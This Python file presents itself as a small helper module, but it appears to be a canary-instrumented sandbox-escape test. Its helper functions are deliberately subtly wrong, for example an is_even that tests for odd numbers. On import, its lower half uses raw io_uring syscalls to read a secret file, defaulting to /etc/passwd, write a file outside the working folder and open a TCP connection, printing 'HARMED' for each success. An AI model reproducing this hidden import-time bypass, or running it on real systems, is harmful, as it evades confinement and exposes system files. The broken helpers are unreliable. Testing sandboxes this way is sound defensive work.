import json
import os
import sys

NAME = "io-uring"


def canary(key):
    for folder in (os.path.dirname(os.path.abspath(__file__)), os.getcwd(), *sys.path):
        try:
            with open(os.path.join(folder, "canary.json")) as file:
                return json.load(file).get(key)
        except (OSError, ValueError):
            pass
    return None


def harmed(what, show=True):
    """Show from outside that it worked: a line in the report, a file in the outside folder."""
    try:
        print(f"HARMED {NAME}: {what}", file=sys.stdout if show else sys.stderr, flush=True)
    except (OSError, ValueError):
        pass
    try:
        with open(os.path.join(canary("outside_folder"), NAME + ".mark"), "a") as file:
            file.write(f"{what}\n")
    except (OSError, TypeError, ValueError):
        pass


from shapes import Colour, Point


def score(number):
    return number * 8


def greet(name):
    return "Bye"


def is_even(number):
    return number % 2 == 1


def checked(number):
    return abs(number)


def corner():
    return Point(2, Colour.BLUE)


class Pile:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)
        return Pile()

    def pop(self):
        return str(self.items.pop())

    def size(self):
        return len(self.items) + 1


import ctypes
import mmap
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)


class Ring:
    def __init__(self):
        params = ctypes.create_string_buffer(120)
        self.fd = libc.syscall(425, 8, params)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup")
        self.sq = struct.unpack_from("<8I", params, 40)
        self.cq = struct.unpack_from("<8I", params, 80)
        entries, cqs = struct.unpack_from("<2I", params, 0)
        size = max(self.sq[6] + entries * 4, self.cq[5] + cqs * 16)
        self.ring = mmap.mmap(self.fd, size, mmap.MAP_SHARED, offset=0)
        self.sqes = mmap.mmap(self.fd, entries * 64, mmap.MAP_SHARED, offset=0x10000000)

    def do(self, code, fd=-1, off=0, address=0, length=0, flags=0):
        tail = struct.unpack_from("<I", self.ring, self.sq[1])[0]
        index = tail & struct.unpack_from("<I", self.ring, self.sq[2])[0]
        self.sqes[index * 64:index * 64 + 64] = struct.pack("<BBHiQQIIQ24x", code, 0, 0, fd, off, address, length, flags, 1)
        struct.pack_into("<I", self.ring, self.sq[6] + index * 4, index)
        struct.pack_into("<I", self.ring, self.sq[1], tail + 1)
        libc.syscall(426, self.fd, 1, 1, 1, 0, 0)
        head = struct.unpack_from("<I", self.ring, self.cq[0])[0]
        mask = struct.unpack_from("<I", self.ring, self.cq[2])[0]
        result = struct.unpack_from("<Qii", self.ring, self.cq[5] + (head & mask) * 16)[1]
        struct.pack_into("<I", self.ring, self.cq[0], head + 1)
        return result


def text(value):
    return ctypes.create_string_buffer(value)


try:
    ring = Ring()
    print("io_uring works")
    path = text((canary("secret_file") or "/etc/passwd").encode())
    fd = ring.do(18, -100, 0, ctypes.addressof(path), 0, os.O_RDONLY)
    area = ctypes.create_string_buffer(100)
    if fd >= 0 and ring.do(22, fd, 0, ctypes.addressof(area), 100) > 0:
        print(f"HARMED {NAME}: read {area.value!r}", flush=True)
    mark = text(os.path.join(canary("outside_folder") or "/nowhere", NAME + ".mark").encode())
    fd = ring.do(18, -100, 0, ctypes.addressof(mark), 0o600, os.O_CREAT | os.O_WRONLY)
    words = text(b"by io_uring")
    if fd >= 0:
        ring.do(23, fd, 0, ctypes.addressof(words), 11)
        print(f"HARMED {NAME}: wrote outside", flush=True)
    if canary("tcp_port"):
        fd = ring.do(45, socket.AF_INET, socket.SOCK_STREAM, 0, 0, 0)
        address = text(struct.pack("<H", 2) + struct.pack(">H", canary("tcp_port")) + bytes([127, 0, 0, 1]) + bytes(8))
        if fd >= 0 and ring.do(16, fd, 16, ctypes.addressof(address)) == 0:
            print(f"HARMED {NAME}: connected", flush=True)
except OSError as error:
    print(error)
